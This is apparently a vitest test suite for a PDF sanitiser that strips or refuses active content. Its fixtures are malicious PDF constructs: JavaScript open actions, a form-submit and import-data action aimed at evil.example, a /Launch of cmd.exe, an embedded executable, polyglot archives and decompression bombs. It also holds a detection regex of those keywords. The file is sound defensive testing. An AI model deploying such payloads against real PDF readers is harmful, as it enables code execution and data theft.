import { randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { IDEA_PDF_MAX_BYTES } from "#contract/ideas/idea-options.ts";
import { makePdf, objectStream, pageWith, pdfOfSize, pdfStream, rawPdfStream } from "#tests/pdf/make-pdf.ts";
import { readPdf } from "#tests/pdf/read-pdf.ts";
import { cleanPdf } from "./clean-pdf.ts";

const MB = 1024 * 1024;

const clean = (file: Buffer | string) => cleanPdf(typeof file === "string" ? file : file.toString("base64"));

/** "taken", or the refusal's code. */
async function fate(file: Buffer | string): Promise<string> {
  const cleaned = await clean(file);
  return "refused" in cleaned ? cleaned.refused : "taken";
}

/** What comes out, as programs see it that are not ours. */
async function cleaned(file: Buffer) {
  const result = await clean(file);
  if ("refused" in result) throw new Error(`Refused: ${result.refused}`);
  return readPdf(result.bytes);
}

const page = "BT /F1 24 Tf 72 700 Td (Uma ideia) Tj ET";
const inObjects = (objects: string) => makePdf({ objects: [objectStream(objects)] });

describe("a PDF is taken", () => {
  it.each<[string, Buffer]>([
    ["as small as it can be", makePdf()],
    ["of version 1.4", makePdf({ header: "%PDF-1.4" })],
    ["of version 2.0", makePdf({ header: "%PDF-2.0" })],
    [
      "with text and pictures",
      makePdf({ objects: [pdfStream("", page), pdfStream("/Subtype /Image", randomBytes(MB))] }),
    ],
    ["with its structure packed", inObjects("<< /Title (A ideia) /Author (Ana) >>")],
    ["with blank lines at its end", makePdf({ after: "\r\n\0\0" })],
    ["that opens at a page of its own", makePdf({ catalogue: "/OpenAction [3 0 R /Fit]" })],
    ["with JavaScript in its text", makePdf({ objects: [pdfStream("", "(HTML/CSS/JavaScript) Tj")] })],
    [
      "with a name that only begins like a bad one",
      makePdf({ catalogue: "/Dests << /LaunchEvent [3 0 R /Fit] >>" }),
    ],
    ["of 10 MB", pdfOfSize(IDEA_PDF_MAX_BYTES)],
  ])("%s", async (_, pdf) => {
    expect(await fate(pdf)).toBe("taken");
  });
});

describe("what is no PDF is refused, whatever it is called", () => {
  const pdf = makePdf();
  it.each<[string, Buffer]>([
    ["a picture", Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), randomBytes(2_000)])],
    ["a page of HTML", Buffer.from("<!doctype html><script>alert(1)</script>")],
    ["an archive", Buffer.concat([Buffer.from("PK\u0003\u0004"), randomBytes(500)])],
    ["a program", Buffer.concat([Buffer.from("\x7fELF", "latin1"), randomBytes(500)])],
    ["only the first line of one", Buffer.from("%PDF-1.7\n")],
    ["only the last line of one", Buffer.from("startxref\n0\n%%EOF")],
    ["one with HTML before it", Buffer.concat([Buffer.from("<script>alert(1)</script>\n"), pdf])],
    ["one with something after it", makePdf({ after: "\n<script>alert(1)</script>" })],
    ["one that is cut short", pdf.subarray(0, -30)],
    ["one that is an archive too, by its last bytes", makePdf({ after: `\n${zipEnd(0)}` })],
    ["one that is an archive too, its end in the archive's comment", archiveAroundEnd()],
    ["one of a version that there is not", makePdf({ header: "%PDF-9.9" })],
    ["a header with a longer number", makePdf({ header: "%PDF-1.77" })],
  ])("%s", async (_, file) => {
    expect(await fate(file)).toBe("not_pdf");
  });
});

/** The end record of an archive with a comment of this length. */
function zipEnd(commentLength: number): string {
  const record = Buffer.alloc(22);
  record.write("PK\u0005\u0006", "latin1");
  record.writeUInt16LE(commentLength, 20);
  return record.toString("latin1");
}

/** The archive's end is in a comment of the PDF, and the PDF's end is the archive's comment. */
function archiveAroundEnd(): Buffer {
  const whole = makePdf({ trailer: `%${zipEnd(0)}\n` });
  const at = whole.indexOf("PK\u0005\u0006");
  whole.writeUInt16LE(whole.length - at - 22, at + 20);
  return whole;
}

describe("what acts, links or carries files does not come out, and the page does", () => {
  const js = "/S /JavaScript /JS (app.alert(1))";
  const onOpening = (action: string) =>
    makePdf({ ...pageWith("Uma ideia"), catalogue: `/OpenAction << ${action} >>` });
  const inPage = (entries: string, objects: Buffer[] = []) => {
    const { objects: content, page } = pageWith("Uma ideia");
    return makePdf({ objects: [...content, ...objects], page: `${page} ${entries}` });
  };
  const unnamedStream = pdfStream("/N 1 /First 5", `10 0 << ${js} >>`);
  const predicted = pdfStream(
    "/Type /ObjStm /N 1 /First 5 /DecodeParms << /Predictor 12 /Columns 8 >>",
    `10 0 << ${js} >>`,
  );
  it.each<[string, Buffer]>([
    ["a script that runs when it opens", onOpening(js)],
    ["a script whose name is disguised", onOpening("/S /J#61vaScr#69pt /J#53 (app.alert(1))")],
    ["a form that is sent somewhere", onOpening("/S /SubmitForm /F (https://evil.example/)")],
    ["a link", onOpening("/S /URI /URI (https://evil.example/)")],
    ["a page of another file", onOpening("/S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit]")],
    ["a page of a file inside", onOpening("/S /GoToE /T << /R /C /N (x) >> /D [0 /Fit]")],
    ["values from a file", onOpening("/S /ImportData /F (https://evil.example/)")],
    ["a program", onOpening("/S /Launch /F (cmd.exe)")],
    ["a film with a script", onOpening("/S /Rendition /JS (app.alert(1))")],
    [
      "a script in an object stream",
      makePdf({ ...pageWith("Uma ideia", objectStream(`<< ${js} >>`)), catalogue: "/OpenAction 10 0 R" }),
    ],
    [
      "a script in an object stream without a type",
      makePdf({ ...pageWith("Uma ideia", unnamedStream), catalogue: "/OpenAction 10 0 R" }),
    ],
    [
      "a script in an object stream with a predictor",
      makePdf({ ...pageWith("Uma ideia", predicted), catalogue: "/OpenAction 10 0 R" }),
    ],
    ["a script of the page", inPage(`/AA << /O << ${js} >> >>`)],
    [
      "a script behind a link of the page",
      inPage(`/Annots [<< /Subtype /Link /Rect [0 0 99 99] /A << ${js} >> >>]`),
    ],
    [
      "a script among the fonts",
      makePdf(pageWith("Uma ideia", undefined, `/Evil << ${js} /A << ${js} >> >>`)),
    ],
    ["a script in what no program knows", inPage(`/PieceInfo << /X << ${js} >> >> /Metadata 9 0 R`)],
    [
      "files that it carries",
      makePdf({
        ...pageWith("Uma ideia", pdfStream("/Type /EmbeddedFile", "MZ")),
        catalogue: "/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 6 0 R >> >>] >> >>",
      }),
    ],
    [
      "content that lies in another file",
      inPage("", [rawPdfStream("/F (https://evil.example/)", Buffer.from(" "))]),
    ],
    [
      "who wrote it",
      makePdf({ ...pageWith("Uma ideia", "<< /Author (evil.example) /JS 1 >>"), trailer: "/Info 6 0 R" }),
    ],
  ])("%s", async (_, pdf) => {
    const seen = await cleaned(pdf);
    expect(seen.problems).toBe("");
    expect(seen.text.trim()).toBe("Uma ideia");
    expect(seen.plain).not.toMatch(
      /JavaScript|\/JS|alert|evil|SubmitForm|\/URI|GoTo|ImportData|Launch|Rendition|EmbeddedFile|\/EF|OpenAction|\/AA|Annots|Names|Author|PieceInfo/,
    );
  });

  it("fonts, pictures and the parents' attributes come with it", async () => {
    const { objects, page: entries } = pageWith("Uma ideia");
    const seen = await cleaned(
      makePdf({ objects, page: entries, pages: "/MediaBox [0 0 900 800] /Rotate 90" }),
    );
    expect(seen.facts.get("Page size")).toBe("900 x 800 pts");
    expect(seen.facts.get("Page rot")).toBe("90");
    expect(seen.text.trim()).toBe("Uma ideia");
  });

  it.each(["LZWDecode", "ASCIIHexDecode"])("a page packed by %s is shown as before", async (filter) => {
    const hex = Buffer.from(`${Buffer.from(page).toString("hex")}>`);
    // Codes of nine bits, each a byte, between "clear" and "end".
    const codes = [256, ...Buffer.from(page), 257].map((code) => code.toString(2).padStart(9, "0")).join("");
    const lzw = Buffer.from(
      (codes.padEnd(Math.ceil(codes.length / 8) * 8, "0").match(/.{8}/g) ?? []).map((bits) =>
        Number.parseInt(bits, 2),
      ),
    );
    const content = rawPdfStream(`/Filter /${filter}`, filter === "LZWDecode" ? lzw : hex);
    const { objects, page: entries } = pageWith("Uma ideia");
    const seen = await cleaned(makePdf({ objects: [content, ...objects.slice(1)], page: entries }));
    expect([seen.problems, seen.text.trim()]).toEqual(["", "Uma ideia"]);
  });
});

describe("a PDF that would lose something, or hides what it is, is refused", () => {
  const visible = "/Rect [0 0 99 99]";
  const annotated = (entries: string) => makePdf({ page: `/Annots [<< ${entries} >>]` });
  it.each<[string, string, Buffer]>([
    ["protected by a password", "encrypted", makePdf({ trailer: "/Encrypt 9 0 R" })],
    ["protected, its key name disguised", "encrypted", makePdf({ trailer: "/#45ncr#79pt 9 0 R" })],
    ["has a form that is a program", "active_content", makePdf({ catalogue: "/AcroForm << /XFA 7 0 R >>" })],
    ["has a field", "active_content", annotated(`/Subtype /Widget /FT /Tx /V (Ana) ${visible}`)],
    ["has a comment", "active_content", annotated(`/Subtype /FreeText /Contents (Ana) ${visible}`)],
    ["has a file pinned to a page", "active_content", annotated(`/Subtype /FileAttachment ${visible}`)],
    ["has no pages", "not_pdf", makePdf({ pages: "/Kids []" })],
    ["has pages that lead back to themselves only", "not_pdf", makePdf({ pages: "/Kids [2 0 R]" })],
    [
      "packs its page in a way that there is not",
      "not_pdf",
      makePdf({ objects: [rawPdfStream("/Filter /Own", Buffer.from("x"))], page: "/Contents 4 0 R" }),
    ],
    [
      "says that it is packed, and is not",
      "not_pdf",
      makePdf({
        objects: [rawPdfStream("/Filter /FlateDecode", Buffer.from("xxxx"))],
        page: "/Contents 4 0 R",
      }),
    ],
    [
      "has a picture larger than any screen",
      "too_large",
      makePdf({
        objects: [
          rawPdfStream("/Subtype /Image /Width 60000 /Height 60000 /Filter /DCTDecode", Buffer.from("x")),
        ],
        page: "/Resources << /XObject << /I 4 0 R >> >>",
      }),
    ],
  ])("%s", async (_, code, pdf) => {
    expect(await fate(pdf)).toBe(code);
  });

  it("a hidden field, or a signature without a place on the page, takes nothing away", async () => {
    expect(await fate(annotated(`/Subtype /Widget /F 2 ${visible}`))).toBe("taken");
    expect(await fate(annotated("/Subtype /Widget /FT /Sig /Rect [0 0 0 0]"))).toBe("taken");
  });
});

/** Of this process's own work, all threads together: how busy the machine is beside it does not count. */
function secondsSince(began: NodeJS.CpuUsage): number {
  const { user, system } = process.cpuUsage(began);
  return (user + system) / 1_000_000;
}

describe("size", { timeout: 60_000 }, () => {
  it("one byte more than 10 MB is too large", async () => {
    expect(await fate(pdfOfSize(IDEA_PDF_MAX_BYTES + 1))).toBe("too_large");
  });

  it("a text far too long is refused before anything is made of it", async () => {
    expect(await fate("!".repeat(14_000_000))).toBe("too_large");
  });

  it("a bomb is refused within two seconds, and memory stays flat", async () => {
    const zeros = deflateSync(Buffer.alloc(210 * MB));
    const some = rawPdfStream("/Filter /FlateDecode", deflateSync(Buffer.alloc(30 * MB)));
    const before = process.memoryUsage().rss;
    for (const pdf of [
      makePdf({ objects: [rawPdfStream("/Filter /FlateDecode", zeros)], page: "/Contents 4 0 R" }),
      makePdf({
        objects: [some, some, some, some, some, some, some],
        page: "/Contents [4 0 R 5 0 R 6 0 R 7 0 R 8 0 R 9 0 R 10 0 R]",
      }),
      makePdf({ objects: [pdfStream("/Type /ObjStm /N 1 /First 5", Buffer.alloc(100 * MB))] }),
      makePdf({
        objects: [rawPdfStream("/Filter [/FlateDecode /FlateDecode]", deflateSync(zeros))],
        page: "/Contents 4 0 R",
      }),
    ]) {
      const began = process.cpuUsage();
      expect(await fate(pdf)).toBe("too_large");
      expect(secondsSince(began)).toBeLessThan(2);
    }
    expect(process.memoryUsage().rss - before).toBeLessThan(150 * MB);
  });

  it("nine megabytes that only pretend to be streams do not come out", async () => {
    const result = await clean(makePdf({ objects: [Buffer.alloc(9 * MB, ">>stream\n\x78\x9c", "latin1")] }));
    expect("bytes" in result && result.bytes.length).toBeLessThan(2_000);
  });
});

describe("base64", () => {
  const good = makePdf().toString("base64");
  it.each([
    ["a data address", `data:application/pdf;base64,${good}`],
    ["line breaks", `${good.slice(0, 76)}\r\n${good.slice(76)}`],
    ["a space", ` ${good}`],
    ["the alphabet of addresses", "_-".repeat(20)],
    ["padding in the middle", `${good.slice(0, 4)}====${good.slice(4)}`],
    ["too much padding", `${good.slice(0, -4)}A===`],
    ["a digit too many", `${good}A`],
    ["bits left over", "JVBERi1="],
    ["nothing but padding", "===="],
    ["letters from elsewhere", "JVBÉ"],
  ])("with %s is refused", async (_, text) => {
    expect(await fate(text)).toBe("invalid_base64");
  });

  it("of any bytes is read as those bytes, and no other text is", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.uint8Array({ minLength: 1, maxLength: 40 }),
        fc.string({ maxLength: 3 }),
        async (bytes, noise) => {
          const text = Buffer.from(bytes).toString("base64");
          expect(await fate(text)).toBe("not_pdf");
          const other = text.slice(0, 2) + noise + text.slice(2);
          const decodes = Buffer.from(other, "base64").toString("base64") === other;
          expect(await fate(other)).toBe(decodes ? "not_pdf" : "invalid_base64");
        },
      ),
    );
  });
});

it("a PDF with any of its bytes changed is taken or refused, and nothing else happens", async () => {
  const pdf = makePdf({ objects: [objectStream("<< /A 1 >>"), pdfStream("", page)] });
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.tuple(fc.nat(pdf.length - 1), fc.nat(255)), { maxLength: 20 }),
      async (changes) => {
        const spoiled = Buffer.from(pdf);
        for (const [at, byte] of changes) spoiled[at] = byte;
        expect(["taken", "not_pdf", "encrypted", "active_content", "too_large"]).toContain(
          await fate(spoiled),
        );
      },
    ),
    { numRuns: 300 },
  );
});
